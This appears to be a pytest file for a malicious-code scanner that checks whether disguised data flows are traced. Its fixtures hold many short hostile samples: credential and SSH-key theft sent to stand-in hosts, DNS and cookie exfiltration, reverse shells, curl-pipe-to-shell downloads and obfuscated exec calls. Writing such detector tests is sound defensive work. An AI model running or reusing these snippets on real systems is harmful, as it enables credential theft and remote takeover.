"""Flows through disguises: names made at run time, folded constants, files, threads, objects, callbacks."""

import pytest

from clawft.scan.documents import Document
from clawft.scan.facts import Analysis, Kind, trace
from clawft.scan.languages.code import analyse

# language, program, the fact that must be found, what must flow into it
DISGUISES = [
    ('python', 'import os\nfor root,d,fs in os.walk(os.path.expanduser("~/.ssh")):\n  for f in fs:\n    data=open(os.path.join(root,f)).read()\n    import requests\n    requests.post("https://h.example",data=data)', 'send=h.example', 'read=~/.ssh'),
    ('python', 'import os,requests\nd={k:v for k,v in os.environ.items() if "KEY" in k}\nrequests.post("https://h.example",json=d)', 'send', 'env=*'),
    ('python', 'import os,urllib.request,urllib.parse\nu="https://h.example/?"+urllib.parse.urlencode(dict(os.environ))\nurllib.request.urlopen(u)', 'send', 'env=*'),
    ('python', 'import urllib.request,os\nreq=urllib.request.Request("https://h.example",data=open("/etc/passwd","rb").read())\nurllib.request.urlopen(req)', 'send=h.example', 'read=/etc/passwd'),
    ('python', 'from pathlib import Path\nimport httpx\nfiles=[Path.home()/".ssh"/"id_rsa", Path("~/.aws/credentials").expanduser()]\nblob={str(p):p.read_text() for p in files if p.exists()}\nhttpx.post("https://h.example",json=blob)', 'send', 'read=~/.ssh/id_rsa read=~/.aws/credentials'),
    ('python', 'import http.client,os,json\nc=http.client.HTTPSConnection("h.example")\nc.request("POST","/x",json.dumps(dict(os.environ)))', 'send', 'env=*'),
    ('python', 'import smtplib\ns=smtplib.SMTP("mail.example",587)\nbody=open("/home/u/.netrc").read()\ns.sendmail("a","b",body)', 'send=mail.example', 'read=.netrc'),
    ('python', 'import subprocess\nk=open("/root/.ssh/id_rsa").read()\nsubprocess.run(["curl","-X","POST","-d",k,"https://h.example/x"])', 'send=h.example', 'read=id_rsa'),
    ('python', 'import os\nos.system("curl -d \\"$(cat ~/.ssh/id_rsa)\\" https://h.example")', 'exec', 'read'),
    ('python', 'import urllib.request\nurllib.request.urlretrieve("http://h.example/p.py","/tmp/p.py")\nimport os\nos.system("python3 /tmp/p.py")', 'exec', 'fetch=h.example'),
    ('python', 'import requests,tempfile,subprocess,os\nr=requests.get("http://h.example/p")\nwith tempfile.NamedTemporaryFile(delete=False) as f:\n  f.write(r.content)\n  name=f.name\nos.chmod(name,0o755)\nsubprocess.Popen([name])', 'exec', 'fetch=h.example'),
    ('python', 'import requests\nr=requests.get("http://h.example/p")\np="/tmp/x"\nwith open(p,"wb") as f:\n  for c in r.iter_content(1):\n    f.write(c)\nimport subprocess\nsubprocess.call(["bash",p])', 'exec', 'fetch=h.example'),
    ('python', 'import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(("203.0.113.7",4444))\nos.dup2(s.fileno(),0)\np=subprocess.call(["/bin/sh","-i"])', 'exec', 'connect=203.0.113.7'),
    ('python', 'import socket,subprocess\ns=socket.socket()\ns.connect(("203.0.113.7",4444))\nwhile True:\n  cmd=s.recv(1024).decode()\n  out=subprocess.getoutput(cmd)\n  s.send(out.encode())', 'exec', 'connect=203.0.113.7'),
    ('python', 'import base64,zlib\nexec(zlib.decompress(base64.b64decode(PAYLOAD)))', 'eval', 'decode=base64'),
    ('python', 'a="ZXhl";b="Yw==";import base64\ng=__builtins__.__dict__[base64.b64decode(a+b).decode()]\ng("print(1)")', 'eval', ''),
    ('python', 'import builtins\ngetattr(builtins,"".join(["e","x","ec"]))("import os")', 'eval=import os', ''),
    ('python', 'e=eval\ne(compile("1+1","x","exec"))', 'eval', ''),
    ('python', 'import importlib\nimportlib.import_module("sub"+"process").run("id",shell=True)', 'exec=id', ''),
    ('python', 'm=__import__("subprocess");m.Popen(["bash","-c","curl x.example|sh"])', 'exec=curl', ''),
    ('python', 'x=lambda s: s[::-1]\nimport os\ngetattr(os, x("metsys"))("id")', 'exec=id', ''),
    ('python', 'def d(s,k):\n  return "".join(chr(ord(c)^k) for c in s)\nimport os\nos.system(d("kf",2))', 'exec=id', ''),
    ('python', 'def d(b):\n  r=""\n  for c in b:\n    r+=chr(c)\n  return r\nimport os\nos.system(d([105,100]))', 'exec=id', ''),
    ('python', 'import os\nkey=b"k"\ndata=bytes.fromhex("0200")\nos.system("".join(chr(b^key[i%len(key)]) for i,b in enumerate(data)))', 'exec', ''),
    ('python', 'class A:\n  def __init__(self):\n    self.s={}\n  def collect(self):\n    self.s["k"]=open("/home/x/.ssh/id_rsa").read()\n  def send(self):\n    import requests\n    requests.post("https://h.example",json=self.s)\na=A();a.collect();a.send()', 'send', 'read=id_rsa'),
    ('python', 'import requests,threading\ndef w(p):\n  requests.post("https://h.example",files={"f":open(p,"rb")})\nfor p in ["/etc/shadow"]:\n  threading.Thread(target=w,args=(p,)).start()', 'send', 'read=/etc/shadow'),
    ('python', 'import socket,os\nd=os.environ.get("AWS_SECRET_ACCESS_KEY")\nfor i in range(0,len(d),30):\n  socket.gethostbyname(d[i:i+30]+".x.example")', 'send=x.example', 'env=AWS'),
    ('python', 'import subprocess\nout=subprocess.check_output("cat ~/.aws/credentials",shell=True)\nimport requests\nrequests.post("https://h.example",data=out)', 'send', 'read=.aws'),
    ('python', 'import pyperclip,requests\nrequests.post("https://h.example",data=pyperclip.paste())', 'send', 'read=clipboard'),
    ('python', 'import shutil,requests\nshutil.make_archive("/tmp/a","zip","/home/u/.ssh")\nrequests.post("https://h.example",files={"f":open("/tmp/a.zip","rb")})', 'send', 'read=.ssh'),
    ('python', 'import zipfile,requests\nz=zipfile.ZipFile("/tmp/a.zip","w")\nz.write("/home/u/.ssh/id_rsa")\nz.close()\nrequests.post("https://h.example",files={"f":open("/tmp/a.zip","rb")})', 'send', 'read=id_rsa'),
    ('python', 'import asyncio,aiohttp,os\nasync def main():\n  async with aiohttp.ClientSession() as s:\n    async with s.post("https://h.example",json=dict(os.environ)) as r:\n      exec(await r.text())\nasyncio.run(main())', 'eval', 'fetch=h.example'),
    ('python', 'import os\nwith open(os.path.expanduser("~/.bashrc"),"a") as f:\n  f.write("curl x.example|sh")', 'persist', ''),
    ('python', 'from os import system as s, environ as e\ns("id")\nimport requests as r\nr.get("https://h.example/"+e["TOKEN"])', 'send', 'env=TOKEN'),
    ('python', 'import pickle,requests\npickle.loads(requests.get("http://h.example").content)', 'load', 'fetch'),
    ('python', 'exec(__import__("urllib.request",fromlist=["x"]).urlopen("http://h.example/x").read())', 'eval', 'fetch'),
    ('python', 'exec(bytes.fromhex("7072696e74283129"))', 'eval=print', 'decode=hex'),
    ('python', 'import codecs\nexec(codecs.decode("vzcbeg bf","rot_13"))', 'eval=import os', 'decode=rot13'),
    ('python', 's="vzcbeg bf"\nt=str.maketrans("abcdefghijklmnopqrstuvwxyz","nopqrstuvwxyzabcdefghijklm")\nexec(s.translate(t))', 'eval=import os', ''),
    ('python', 'parts=["im","port"," os"]\ncode=""\nfor p in parts:\n  code+=p\nexec("".join(parts))', 'eval=import os', ''),
    ('python', 'import requests,json\ncfg=json.load(open("c.json"))\nrequests.post(cfg["url"],data=open("/etc/shadow").read())', 'send', 'read=/etc/shadow'),
    ('python', 'import os,sys\nos.execvp("sh",["sh","-c","curl x.example|sh"])', 'exec=curl', ''),
    ('python', 'import ctypes\nctypes.CDLL("/tmp/x.so")', 'load', ''),
    ('python', 'from subprocess import *\nPopen("id",shell=True)', 'exec=id', ''),
    ('python', 'import os\n[os.system(c) for c in ("id","uname")]', 'exec=uname', ''),
    ('python', 'import requests\nURL="https://h.example"\nclass C:\n  base=URL\n  def f(self):\n    return requests.post(f"{self.base}/x",data=open("/etc/shadow"))', 'send=h.example', 'read'),
    ('python', 'import os\nx={"cmd":os.system}\nx["cmd"]("id")', 'exec=id', ''),
    ('python', 'from functools import partial\nimport os\np=partial(os.system,"id")\np()', 'exec=id', ''),
    ('python', 'import sys\nsys.modules["os"].system("id")', 'exec=id', ''),
    ('python', 'import requests\nwith requests.Session() as s:\n  s.headers.update({"a":"b"})\n  s.post("https://h.example",data=open("/etc/shadow").read())', 'send', 'read'),
    ('python', 'try:\n  import os\n  k=open(os.path.join(os.environ["HOME"],".ssh","id_rsa")).read()\nexcept Exception:\n  k=""\nimport requests\nrequests.post("https://h.example",data=k)', 'send', 'read=~/.ssh/id_rsa'),
    ('javascript', 'const fs=require("fs"),https=require("https"),os=require("os"),path=require("path");\nconst d=fs.readFileSync(path.join(os.homedir(),".ssh","id_rsa"));\nconst r=https.request("https://h.example",{method:"POST"});r.write(d);r.end();', 'send=h.example', 'read=~/.ssh/id_rsa'),
    ('javascript', 'const cp=require("child_"+"process");cp["ex"+"ec"]("id")', 'exec=id', ''),
    ('javascript', 'global["req"+"uire"]("child_process").execSync("id")', 'exec=id', ''),
    ('javascript', 'process.mainModule.require("child_process").exec("id")', 'exec=id', ''),
    ('javascript', 'import("child_process").then(cp=>cp.exec("id"))', 'exec=id', ''),
    ('javascript', 'const {promisify}=require("util");const ex=promisify(require("child_process").exec);async function f(){await ex("id")}', 'exec=id', ''),
    ('javascript', '(async()=>{const r=await fetch("https://h.example/x.js");const t=await r.text();eval(t)})()', 'eval', 'fetch'),
    ('javascript', 'fetch("https://h.example/x.js").then(r=>r.text()).then(t=>new Function(t)())', 'eval', 'fetch'),
    ('javascript', 'const _=String.fromCharCode(105,100);require("child_process").exec(_)', 'exec=id', ''),
    ('javascript', '[].constructor.constructor("return process")()', 'eval', ''),
    ('javascript', 'const s="di".split("").reverse().join("");require("child_process").exec(s)', 'exec=id', ''),
    ('javascript', 'const a=["id","exec"];(function(){require("child_process")[a[1]](a[0])})()', 'exec=id', ''),
    ('javascript', 'const fs=require("fs");let out={};for(const [k,v] of Object.entries(process.env)){ if(/KEY/.test(k)) out[k]=v }\nfetch("https://h.example",{method:"POST",body:JSON.stringify(out)})', 'send', 'env=*'),
    ('javascript', 'const net=require("net"),cp=require("child_process");const sh=cp.spawn("/bin/sh",[]);const c=new net.Socket();c.connect(4444,"203.0.113.7",()=>{c.pipe(sh.stdin);sh.stdout.pipe(c);});', 'connect=203.0.113.7', ''),
    ('javascript', 'const https=require("https"),fs=require("fs"),{execSync}=require("child_process");https.get("https://h.example/a",res=>{const f=fs.createWriteStream("/tmp/a");res.pipe(f);f.on("finish",()=>{fs.chmodSync("/tmp/a",0o755);execSync("/tmp/a")})})', 'exec', 'fetch'),
    ('javascript', 'const dns=require("dns");dns.lookup(`${process.env.TOKEN}.x.example`,()=>{})', 'send=x.example', 'env=TOKEN'),
    ('javascript', 'new Image().src="https://h.example/?c="+document.cookie', 'send', 'read=browser'),
    ('javascript', 'const i=new Image(); i.src=`https://h.example/?${document.cookie}`', 'send', 'read=browser'),
    ('javascript', 'class A{constructor(){this.k=process.env.TOKEN} async go(){await axios.post("https://h.example",{k:this.k})}}', 'send', 'env=TOKEN'),
    ('javascript', 'export async function f(){ const { data } = await axios.get("https://h.example/x"); eval(data) }', 'eval', 'fetch'),
    ('javascript', 'const x=new XMLHttpRequest();x.open("POST","https://h.example");x.send(localStorage.getItem("t"))', 'send=h.example', 'read=browser'),
    ('javascript', 'eval(Buffer.from("Y29uc29sZS5sb2coMSk=","base64").toString("utf8"))', 'eval=console', 'decode=base64'),
    ('javascript', 'const d=s=>Buffer.from(s,"hex").toString();require(d("6368696c645f70726f63657373")).exec(d("6964"))', 'exec=id', ''),
    ('javascript', 'const p=Deno.run({cmd:["bash","-c","id"]})', 'exec', ''),
    ('javascript', 'setTimeout("fetch(1)",1)', 'eval=fetch', ''),
    ('javascript', 'const fs=require("fs").promises;(async()=>{const b=await fs.readFile("/etc/shadow","utf8");await fetch("https://h.example/"+btoa(b))})()', 'send', 'read=/etc/shadow'),
    ('javascript', 'var a=require("os");var h=a.homedir();var k=[".ssh/id_rsa",".aws/credentials"].map(function(f){try{return require("fs").readFileSync(h+"/"+f,"utf8")}catch(e){return ""}}).join("\\n");require("axios").post("https://h.example",{k:k})', 'send', 'read=~/.ssh/id_rsa read=~/.aws/credentials'),
]  # fmt: skip

# language, program: nothing is done here
HOUSEKEEPING = [
    ("python", '"""Runs os.system("id") when asked."""\nx = "curl http://a.example | sh"\n# exec(open("x").read())\n'),
    (
        "python",
        'import re\nDANGEROUS = re.compile(r"eval\\(|os\\.system\\(")\nRULES = {"exec(": "bad"}\nprint(RULES)\n',
    ),
    ("python", "def eval_model(x):\n    return x + 1\nmodel.eval()\n"),
    (
        "javascript",
        "// child_process.exec('id')\nconst r = /eval\\(|exec\\(/g;\nconst s = 'process.env';\nconsole.log(r.exec(s));\n",
    ),
    ("javascript", "const t = `run require('child_process').exec('id')`;\n/* fetch('http://a.example') */\n"),
    ("ruby", "# system 'id'\nx = 'eval(1)'\nputs x\n"),
    ("go", 'package main\n// exec.Command("id")\nvar s = `os.Getenv("A")`\n'),
]

# language, program, (text, language) of a child, how it was reached
COMMANDS = [
    ("python", "import os\nos.system('ls ~')", ("ls ~", "shell"), "exec"),
    ("python", "import subprocess\nsubprocess.run(['bash', '-c', 'ls | wc'])", ("ls | wc", "shell"), "exec"),
    ("python", "import subprocess\nsubprocess.run(['osascript', '-e', 'beep'])", ("beep", "applescript"), "exec"),
    ("python", "import subprocess\nsubprocess.run(['powershell', '-c', 'dir'])", ("dir", "powershell"), "exec"),
    ("python", "import subprocess\nsubprocess.run(['node', '-e', 'f()'])", ("f()", "javascript"), "exec"),
    ("python", "exec('a = ' + '1')", ("a = 1", "python"), "eval"),
    ("javascript", "eval(atob('Zm9vKDEpOyBiYXIoMik='))", ("foo(1); bar(2)", "javascript"), "eval"),
    ("python", "import base64\nx = base64.b64decode('aW1wb3J0IG9zO29zLmdldGN3ZCgp')", ("import os;os.getcwd()", "python"), "base64"),
    ("ruby", "`ls -l`", ("ls -l", "shell"), "exec"),
]  # fmt: skip


def _look(text: str, language: str) -> Analysis:
    return analyse(Document("program", text, language))


def _facts(analysis: Analysis) -> set[tuple[Kind, str]]:
    return {(one.kind, one.target) for one in analysis.facts}


@pytest.mark.parametrize(("language", "text", "sink", "sources"), DISGUISES)
def test_a_disguised_flow_is_followed(language: str, text: str, sink: str, sources: str) -> None:
    kind, _, target = sink.partition("=")
    wanted = [one.partition("=") for one in sources.split()]
    for fact in _look(text, language).facts:
        if fact.kind == kind and target in fact.target:
            flows = trace(fact)
            if all(any(one.kind == name and what in one.target for one in flows) for name, _, what in wanted):
                return
    pytest.fail(f"no {sink} fed by {sources or 'anything'}")


@pytest.mark.parametrize(("language", "text"), HOUSEKEEPING)
def test_words_that_are_no_calls_are_no_facts(language: str, text: str) -> None:
    assert _facts(_look(text, language)) == set()


@pytest.mark.parametrize(("language", "text", "child", "how"), COMMANDS)
def test_code_carried_as_text_becomes_a_document(language: str, text: str, child: tuple[str, str], how: str) -> None:
    found = {((one.text, one.language), one.origin[-1]) for one in _look(text, language).children}
    assert (child, how) in found
